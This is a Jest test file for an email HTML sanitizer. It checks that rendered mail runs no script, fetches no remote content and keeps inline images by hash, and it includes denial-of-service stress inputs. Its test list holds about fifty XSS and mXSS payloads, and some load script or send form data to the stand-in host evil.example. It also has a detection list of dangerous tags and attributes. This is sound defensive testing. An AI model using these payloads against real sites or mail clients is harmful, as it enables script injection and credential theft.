import { text } from 'node:stream/consumers';
import { describe, expect, test } from '@jest/globals';
import { Parser } from 'htmlparser2';
import { displayHtml } from '../src/display.ts';
import { contactOf, testArchive } from './parsing.ts';

const HASH = 'ab'.repeat(32);
const PICTURES = new Map([
  ['logo@example.org', { sha256: HASH, mediaType: 'image/png' }],
  ['drawing', { sha256: HASH, mediaType: 'image/svg+xml' }],
  ['a b', { sha256: HASH, mediaType: 'image/jpeg' }],
]);
const show = (markup: string) => displayHtml(markup, PICTURES);

/** What a browser would make of it: every tag with its attributes. */
function tags(html: string): { name: string; attributes: Record<string, string> }[] {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (name, attributes) => void found.push({ name, attributes }) });
  parser.end(html);
  return found;
}

const ACTIVE = new Set(
  'applet audio base body button canvas embed form frame frameset head html iframe input link math meta noscript object script select source style svg template textarea title track video'.split(
    ' ',
  ),
);
const ADDRESSES = [
  'action',
  'background',
  'cite',
  'data',
  'formaction',
  'href',
  'longdesc',
  'ping',
  'poster',
  'src',
  'srcset',
  'xlink:href',
];

function dangers(html: string): string[] {
  return tags(html).flatMap(({ name, attributes }) => [
    ...(ACTIVE.has(name) ? [`<${name}>`] : []),
    ...Object.entries(attributes).flatMap(([attribute, value]) => {
      const address = ADDRESSES.includes(attribute);
      const link = name === 'a' && attribute === 'href' && /^(?:https?:\/\/|mailto:|tel:)/i.test(value);
      const own = name === 'img' && attribute === 'src' && /^sha256:[0-9a-f]{64}$/.test(value);
      if (attribute.startsWith('on') || (address && !link && !own)) return [`${attribute}=${value}`];
      if (attribute === 'style' && /url|expression|import|@|\\|behaviou?r|binding|position|javascript/i.test(value))
        return [value];
      return [];
    }),
  ]);
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/onload=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  java\tscript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background-color: u\\72l(https://evil.example)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(x.xml)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Sign in again</div>',
  '<p style="color:red;/*" onmouseover="alert(1)">x</p>',
  '<table background="https://evil.example/x.png"><td background="https://evil.example/y.png">x</td></table>',
  '<video src="https://evil.example/x" poster="https://evil.example/y"><source src=x></video>',
  '<img srcset="https://evil.example/x 2x" src="https://evil.example/y">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="file:///etc/passwd">',
  '<img src="cid:drawing">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<template><script>alert(1)</script></template>',
  '<body onload=alert(1)><frameset onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a id=x name=body href=https://example.org ping=https://evil.example target=_self rel=opener>x</a>',
  '\u003cimg\u0000 src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<q cite="javascript:alert(1)">x</q><blockquote cite="https://evil.example">x</blockquote>',
];

describe('HTML for display', () => {
  test.each(VECTORS)('nothing runs, fetches or reaches out in %j', (vector) => {
    const html = show(`before ${vector} <b>after</b>`);
    expect(dangers(html)).toEqual([]);
    // What is safe once stays so.
    expect(displayHtml(html, PICTURES).replaceAll(` src="sha256:${HASH}"`, '')).toBe(html);
  });

  test('the test itself knows a danger when it sees one', () => {
    const harmless = VECTORS.filter((vector) => dangers(vector).length === 0);
    // A comment and a broken tag are no danger to the parser of this test.
    expect(harmless.length).toBeLessThan(8);
  });

  test('keeps what a mail looks like', () => {
    const html =
      '<table border="1"><tbody><tr><td colspan="2" style="color:#c00;font-weight:bold;padding:2px 4px">Room <b>214</b></td></tr></tbody></table><ul><li>one</li></ul><p dir="rtl">שלום</p>';
    expect(show(html)).toBe(html);
  });

  test('shows the pictures that the mail brought along, by their hash', () => {
    expect(show('<img src="cid:logo@example.org" alt="Logo" width="10">')).toBe(
      `<img alt="Logo" width="10" src="sha256:${HASH}" />`,
    );
    expect(show('<img src="CID:logo%40example.org">')).toBe(`<img src="sha256:${HASH}" />`);
    expect(show('<img src="cid:a%20b"><img src="cid:unknown"><img src="cid:%zz">')).toBe(
      `<img src="sha256:${HASH}" /><img /><img />`,
    );
    expect(show(`<img src="sha256:${'c'.repeat(64)}">`)).toBe('<img />');
  });

  test('keeps the address of a strange picture for a reader who chooses to see it, and fetches none', () => {
    expect(show('<img src=" https://evil.example/p.gif?u=1 " alt="x">')).toBe(
      '<img alt="x" data-remote-src="https://evil.example/p.gif?u=1" />',
    );
    expect(show('<img data-remote-src="javascript:alert(1)">')).toBe('<img />');
  });

  test('opens links apart, and tells nobody where they stood', () => {
    expect(show('<a href="https://example.org/?a=1&amp;b=2">x</a>')).toBe(
      '<a target="_blank" rel="noopener noreferrer nofollow" href="https://example.org/?a=1&amp;b=2">x</a>',
    );
  });
});

test('the picture that a mail shows is the one it brought along', async () => {
  const { archive, remove } = await testArchive();
  const contact = await contactOf(
    archive,
    [
      ...[
        'From: ada@example.net',
        'Content-Type: multipart/related; boundary=b',
        '',
        '--b',
        'Content-Type: text/html',
        '',
      ],
      ...['<p onclick="x()">See <img src="cid:logo@example.net"></p>', '--b', 'Content-Type: image/png; name=logo.png'],
      ...['Content-ID: <logo@example.net>', 'Content-Transfer-Encoding: base64', '', 'iVBORw0KGgo=', '--b--', ''],
    ].join('\r\n'),
  );
  const shown = await text(await archive.get(contact.html ?? ''));
  expect(contact.attachments).toMatchObject([{ name: 'logo.png', inline: true }]);
  expect(shown.trim()).toBe(`<p>See <img src="sha256:${contact.attachments[0]?.sha256}" /></p>`);
  remove();
});

describe('costs no more than its length', () => {
  test.each<[string, string]>([
    ['twenty thousand nested blocks', '<div>'.repeat(20_000)],
    ['a megabyte of nested bold', '<b>'.repeat(330_000)],
    ['a megabyte of nested tables', '<table><tr><td>'.repeat(60_000)],
    ['open tags and other tags’ ends', `${'<b>'.repeat(10_000)}${'</i>'.repeat(200_000)}`],
    ['tags that cross', '<b><i></b>'.repeat(100_000)],
    ['list items in cells', '<li><td>'.repeat(120_000)],
    ['styles', '<p style="color:red">x</p>'.repeat(38_000)],
    ['one long style', `<p style="${'color:red;'.repeat(100_000)}">`],
    ['a broken style', `<p style="${'{'.repeat(900_000)}">`],
    ['attributes', `<p ${'a '.repeat(400_000)}>`],
    ['less-than signs', '<'.repeat(1_000_000)],
    ['comments that never end', '<!--'.repeat(250_000)],
    ['ten megabytes of a table', `<table>${'<tr><td style="color:red">x</td></tr>'.repeat(270_000)}`],
    ['pictures', '<img src="cid:%25%25%25%25">'.repeat(40_000)],
    ['spaces before an address', `<a href="${' '.repeat(900_000)}javascript:x">`],
  ])('%s', (_, bomb) => {
    const began = process.cpuUsage();
    const html = show(`${bomb}words`);
    const { user, system } = process.cpuUsage(began);
    // What is not in proportion to its length takes minutes; a busy machine counts some seconds for what is.
    expect((user + system) / 1e6).toBeLessThan(20);
    expect(html.length).toBeLessThan(5_000_100);
  });
});
